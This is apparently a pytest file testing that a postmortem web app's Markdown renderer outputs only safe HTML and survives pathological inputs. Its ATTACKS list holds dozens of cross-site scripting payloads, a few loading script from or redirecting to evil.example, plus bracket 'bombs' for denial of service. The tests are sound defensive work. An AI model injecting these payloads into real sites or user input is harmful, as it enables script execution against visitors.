"""Markdown from anybody becomes HTML that runs nothing, in bounded time."""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from threading import Thread

import pytest

from postmortems.web.markdown import safe_html
from postmortems.web.markdown.markdown_child import ATTRIBUTES, LARGEST_HTML, TAGS, to_html
from postmortems.web.markdown.markdown_process import Renderer

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<p id=main>x</p>",
    "<a name=location>x</a>",
    "<form id=csrf_token></form>",
    "<div class='flash banner' hx-get='/sign-out' hx-trigger=load data-hx-post=/x>x</div>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```{.x onclick=alert(1)}\nx\n```",
    "```py onclick=alert(1)\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <script>alert(1)</script>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--<script>-->alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<a href='http://ok.example' onclick='alert(1)' style='x' target=_top>x</a>",
    "**<script>**alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "http://x.example/\"onmouseover=alert(1)",
    "<http://x.example/\"onmouseover=alert(1)>",
    "[a](http://x.example/ \"t\\\" onclick=alert(1) x=\\\"\")",
]  # fmt: skip


class Inspector(HTMLParser):
    """Notes everything that is not on our lists."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        ours = {"a": {"rel"}, "pre": {"tabindex"}, "table": {"tabindex"}}
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ours.get(tag, set())
        for name, value in attrs:
            if name not in allowed:
                self.wrong.append(f"{tag} {name}")
            if name in {"href", "src"} and re.match(r"\s*(?!https?:|mailto:)[\w+.-]+\s*:", value or ""):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "id" and not re.fullmatch(r"fn(ref)?-[0-9a-f]{8}-\d+(:\d+)?|in-text-.*", value or ""):
                self.wrong.append(f"id={value}")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "- item\n\n  {}", "> {}", "## {}"])
def test_nothing_that_runs_survives(attack: str, around: str) -> None:
    inspector = Inspector()
    inspector.feed(to_html(around.format(attack)))

    assert inspector.wrong == []


@pytest.mark.parametrize(
    "text, html",
    [
        ("**b** _i_ `c` ~~d~~", "<strong>b</strong> <em>i</em> <code>c</code> <del>d</del>"),
        ("https://example.org/x", '<a href="https://example.org/x" rel="noopener noreferrer nofollow">'),
        ("[x](/incidents/a)", '<a href="/incidents/a"'),
        ("![graph](https://example.org/g.png)", '<img src="https://example.org/g.png" alt="graph">'),
        ("- [x] a", '<span class="task" title="done">☑</span> a'),
        ("```python\nx\n```", '<code class="language-python">x'),
        ("| a |\n|--:|\n| 1 |", '<th align="right">a</th>'),
        ("<kbd>Ctrl</kbd>", "<kbd>Ctrl</kbd>"),
        ("snake_case_name", "snake_case_name"),
        ("5 < 6 & 7", "5 &lt; 6 &amp; 7"),
    ],
)
def test_what_people_write_is_shown(text: str, html: str) -> None:
    assert html in to_html(text)


def test_footnotes_of_two_texts_do_not_share_anchors() -> None:
    first, second = to_html("a[^1]\n\n[^1]: x"), to_html("b[^1]\n\n[^1]: y")

    anchors = [set(re.findall(r'id="([^"]+)"', html)) for html in (first, second)]
    assert len(anchors[0]) == len(anchors[1]) == 2
    assert not anchors[0] & anchors[1]


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    renderer = Renderer(children=2, deadline_s=1.0)
    yield renderer
    renderer.close()


BOMBS = {
    "brackets": "[" * 20_000,
    "images": "![" * 10_000,
    "footnotes": "[^" * 10_000,
    "colons": ":" * 200_000,
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=list(BOMBS))
def test_a_bomb_is_given_up_and_the_next_text_is_rendered(renderer: Renderer, bomb: str) -> None:
    assert renderer.render(bomb) is None
    assert renderer.render("*next*") == "<p><em>next</em></p>\n"


def test_a_text_nested_too_deeply_is_shown_one_way_or_another(renderer: Renderer) -> None:
    renderer.render("\n".join("  " * depth + "- a" for depth in range(400)))
    renderer.render("> " * 5000 + "x")

    assert renderer.render("*next*") == "<p><em>next</em></p>\n"


def test_a_killed_child_is_replaced(renderer: Renderer) -> None:
    only = Renderer(children=1)
    assert only.render("*a*")
    child = only._children._free.queue[0]
    assert child is not None
    os.kill(child._process.pid, 9)
    child._process.wait()

    assert only.render("*b*") is None
    assert only.render("*c*") == "<p><em>c</em></p>\n"
    only.close()


def test_threads_share_the_children(renderer: Renderer) -> None:
    seen: dict[int, str | None] = {}

    def render(number: int) -> None:
        seen[number] = renderer.render(f"*{number}*")

    threads = [Thread(target=render, args=(number,)) for number in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert seen == {number: f"<p><em>{number}</em></p>\n" for number in range(20)}


def test_what_cannot_be_rendered_is_shown_as_the_text_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe_html._renderer, "render", lambda text: None)

    assert (
        safe_html.to_html("<b>& never rendered") == '<pre class="plain">&lt;b&gt;&amp; never rendered</pre>'
    )


def test_a_text_beyond_the_limit_is_not_even_tried(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe_html._renderer, "render", lambda text: 1 / 0)

    assert safe_html.to_html("<" * (safe_html.LARGEST + 1)).startswith('<pre class="plain">&lt;')


def test_a_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    monkeypatch.setattr(safe_html._renderer, "render", lambda text: calls.append(text) or "<p>x</p>")

    assert safe_html.to_html("rendered once, please") == safe_html.to_html("rendered once, please")
    assert len(calls) == 1


@pytest.mark.parametrize("nothing", ["", None, "  \n "])
def test_nothing_is_nothing(nothing: str | None) -> None:
    assert safe_html.to_html(nothing) == ""


def test_a_text_with_half_a_surrogate_pair_is_shown(renderer: Renderer) -> None:
    assert renderer.render("a \ud800 b") is not None
    assert LARGEST_HTML > safe_html.LARGEST
